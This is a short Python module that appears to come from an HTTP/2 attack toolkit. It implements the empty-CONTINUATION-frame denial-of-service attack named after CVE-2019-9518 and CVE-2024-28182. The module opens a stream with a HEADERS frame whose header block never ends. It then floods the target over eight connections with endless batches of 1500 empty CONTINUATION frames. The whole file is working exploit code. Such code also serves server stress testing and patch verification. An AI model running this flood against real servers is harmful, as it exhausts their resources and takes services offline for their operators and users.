"""Empty CONTINUATION frames, after a header block that does not end (CVE-2019-9518 and
CVE-2024-28182)."""

from itertools import repeat

import frames
from attack import Attack

ATTACK = Attack()


async def run(target):
    begun = frames.frame(frames.HEADERS, frames.END_STREAM, 1, frames.head())
    batch = frames.frame(frames.CONTINUATION, stream=1) * 1500
    return await target.flood(8, frames.opening() + begun, lambda: repeat(batch))
